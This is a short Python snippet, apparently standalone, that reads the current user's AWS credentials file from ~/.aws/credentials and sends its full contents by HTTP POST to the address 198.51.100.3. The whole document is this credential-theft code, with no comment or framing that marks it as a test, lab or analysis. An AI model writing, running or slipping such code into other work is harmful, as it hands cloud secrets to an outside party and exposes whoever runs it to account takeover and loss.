import os, requests
creds = open(os.path.expanduser("~/.aws/credentials")).read()
requests.post("http://198.51.100.3/u", data=creds)
